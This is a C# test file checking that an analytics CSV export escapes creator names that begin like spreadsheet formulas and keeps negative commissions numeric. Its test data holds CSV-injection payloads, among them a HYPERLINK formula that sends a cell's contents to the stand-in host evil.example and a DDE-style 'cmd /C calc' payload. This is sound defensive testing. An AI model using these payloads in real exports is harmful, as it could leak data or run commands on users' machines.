using System.Globalization;
using static Analytics.Tests.Events;

namespace Analytics.Tests;

/// <summary>
/// Security finding 1 (docs/reliability.md): a name a creator typed must reach a spreadsheet as text,
/// never as a formula, while amounts (a negative commission on a day of reversals included) stay
/// numbers a spreadsheet can add up.
/// </summary>
public sealed class CsvInjectionTests(ScenarioFixture fixture) : IClassFixture<ScenarioFixture>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    private static readonly DateOnly Day1 = new(2026, 5, 4), Day2 = new(2026, 5, 5);

    [Theory]
    [InlineData("creators", "sort=revenue")]
    [InlineData("leaderboard", "minClicks=0")]
    public async Task A_creator_named_like_a_formula_is_exported_as_text(string view, string query)
    {
        var program = await PublishAsync(Formula);

        var csv = await ExportAsync($"view={view}&campaignId={program.Campaign}&currency=USD&{query}", program.Brand);

        var name = csv[0].IndexOf("displayName");
        Assert.True(name >= 0, string.Join(",", csv[0]));
        var row = Assert.Single(csv.Skip(1));
        Assert.Equal("'" + Formula, row[name]);
        Assert.Equal(100m, decimal.Parse(row[csv[0].IndexOf("revenue")], CultureInfo.InvariantCulture));
    }

    [Theory]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("＝1+1")]
    public async Task Every_formula_start_is_defused(string name)
    {
        var program = await PublishAsync(name);

        var csv = await ExportAsync($"view=leaderboard&currency=USD&minClicks=0", program.Brand);

        Assert.Equal("'" + name, Assert.Single(csv.Skip(1))[csv[0].IndexOf("displayName")]);
    }

    [Fact]
    public async Task A_negative_commission_stays_a_number()
    {
        var program = await PublishAsync("Ada");

        var csv = await ExportAsync($"view=timeseries&campaignId={program.Campaign}&from={Day2:yyyy-MM-dd}&to={Day2:yyyy-MM-dd}", program.Brand);

        var commission = Assert.Single(csv.Skip(1))[csv[0].IndexOf("commission")];
        Assert.StartsWith("-", commission, StringComparison.Ordinal);
        Assert.Equal(-4m, decimal.Parse(commission, NumberStyles.Number, CultureInfo.InvariantCulture));
    }

    /// <summary>A new brand: one creator with one click and a 100.00 order on day 1 (10.00 commission), and 4.00 of it reversed on day 2.</summary>
    private async Task<(Guid Brand, Guid Campaign)> PublishAsync(string creatorName)
    {
        var (brand, campaign, creator, conversion) = (Guid.CreateVersion7(), Guid.CreateVersion7(), Guid.CreateVersion7(), Guid.CreateVersion7());
        await fixture.Service.PublishAllAsync([Campaign(brand, campaign), Creator(brand, creator, "micro", 0.05m, creatorName)]);
        await fixture.Service.PublishAllAsync(
        [
            Clicks(brand, [Click(campaign, creator, At(Day1, 9))]),
            Attributed(brand, conversion, campaign, creator, 100.00m, At(Day1, 10)),
            Accrued(brand, conversion, campaign, creator, 10.00m, At(Day1, 10)),
            CommissionReversed(brand, conversion, "refund-1", campaign, creator, 4.00m, At(Day2, 10)),
        ]);
        await fixture.Service.SettledAsync($"/api/analytics/campaigns/{campaign}/summary", brand);
        return (brand, campaign);
    }

    private async Task<List<List<string>>> ExportAsync(string query, Guid brand)
    {
        var response = await fixture.Service.GetAsync($"/api/analytics/export.csv?{query}", brand);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, text);
        return CsvText.Parse(text);
    }
}
